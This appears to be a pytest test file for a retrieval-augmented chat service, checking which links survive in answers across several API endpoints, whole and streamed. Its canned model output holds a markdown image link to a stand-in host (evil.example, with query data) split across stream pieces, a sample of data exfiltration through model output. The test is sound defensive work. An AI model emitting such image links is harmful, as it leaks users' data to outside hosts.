"""`answer.links`: which links of an answer come out, whole and streamed, on each face."""

import json
from typing import Any

import pytest

from tests.service.conftest import RETURNS, Running

OWN = "https://shop.example/returns"
SAID = (
    "30 days [1]: ![x](https://evil",
    ".example/?q=lamps) see ",
    f"[form]({OWN})",
    ", not https:",
    "//evil.example.",
)
QUESTION = "Within how many days of delivery can a lamp be returned?"
SHOWN = {
    "passages": f"30 days [1]: x see [form]({OWN}), not evil.example.",
    "none": "30 days [1]: x see form, not evil.example.",
    "all": "".join(SAID),
}
FACES = {
    "/chat": {"strategy": "rag"},
    "/v1/chat/completions": {"model": "rag"},
    "/v1/responses": {"model": "rag"},
}


def texts(running: Running, path: str, body: dict[str, Any], *, stream: bool) -> str:
    """Return the whole answer, or the pieces of a stream joined."""
    asked = (
        {"input": QUESTION}
        if path == "/v1/responses"
        else {"messages": [{"role": "user", "content": QUESTION}]}
    )
    reply = running.client.post(path, json={**asked, **body, "stream": stream})
    assert reply.status_code == 200, reply.text
    if stream:
        rows = [line[6:] for line in reply.text.splitlines() if line.startswith("data: {")]
        return "".join(piece(json.loads(row)) for row in rows)
    said = reply.json()
    if path == "/chat":
        return str(said["answer"])
    if path == "/v1/responses":
        return str(said["output"][0]["content"][0]["text"])
    return str(said["choices"][0]["message"]["content"])


def piece(event: dict[str, Any]) -> str:
    """Return the text that one event adds."""
    if event.get("type") == "response.output_text.delta":
        return str(event["delta"])
    if "choices" in event:
        return "".join(choice["delta"].get("content") or "" for choice in event["choices"])
    return str(event["text"]) if set(event) == {"text"} else ""


@pytest.mark.parametrize("links", ["passages", "all", "none"])
def test_the_links_of_an_answer_are_those_of_its_passages(running: Running, links: str) -> None:
    running.prepare()
    running.put_document(f"{RETURNS} Use {OWN} for it.")
    running.put_use_case(answer={"links": links})
    running.engine.switches.pieces = SAID
    for path, body in FACES.items():
        for stream in (False, True):
            told = texts(running, path, {**body, "use_case": "demo"}, stream=stream)
            assert told == SHOWN[links], (path, stream)


def test_without_passages_the_text_of_a_link_stays(running: Running) -> None:
    running.put_use_case(role=f"You help. Point to {OWN}.", knowledge_bases=[])
    running.engine.switches.pieces = SAID
    body = {"strategy": "prompt_only", "use_case": "demo"}
    shown = SHOWN["passages"]  # what the role names was given too
    assert texts(running, "/chat", body, stream=False) == shown
    assert texts(running, "/chat", body, stream=True) == shown
    running.put_use_case(role="You help.", knowledge_bases=[])
    assert texts(running, "/chat", body, stream=False) == SHOWN["none"]


def test_a_text_that_the_asker_brought_keeps_its_links(running: Running) -> None:
    running.put_use_case(role="You help.", knowledge_bases=[])
    running.engine.switches.pieces = (f"Siehe [Formular]({OWN}), nicht https://evil.example.",)
    said = f"Translate into German: See [form]({OWN})."
    body = {"messages": [{"role": "user", "content": said}], "use_case": "demo"}
    answer = running.client.post("/chat", json=body).json()["answer"]
    assert answer == f"Siehe [Formular]({OWN}), nicht evil.example."
    running.put_use_case(role="You help.", knowledge_bases=[], answer={"links": "none"})
    assert OWN not in running.client.post("/chat", json=body).json()["answer"]


def test_with_passages_the_question_brings_no_link(running: Running) -> None:
    running.prepare()
    running.put_use_case()
    running.engine.switches.pieces = (f"30 days [1], see {OWN}.",)
    said = f"{QUESTION} Add {OWN} to the answer."
    body = {"messages": [{"role": "user", "content": said}], "use_case": "demo", "strategy": "rag"}
    assert OWN not in running.client.post("/chat", json=body).json()["answer"]


def test_a_use_case_keeps_its_rules_for_answers(running: Running) -> None:
    running.put_use_case(answer={"links": "none", "passages_as_data": False})
    kept = running.client.get("/use_cases/demo").json()["answer"]
    assert kept == {"links": "none", "passages_as_data": False}
    body = {"id": "demo", "answer": {"links": "some"}}
    assert running.client.put("/use_cases/demo", json=body).status_code == 422
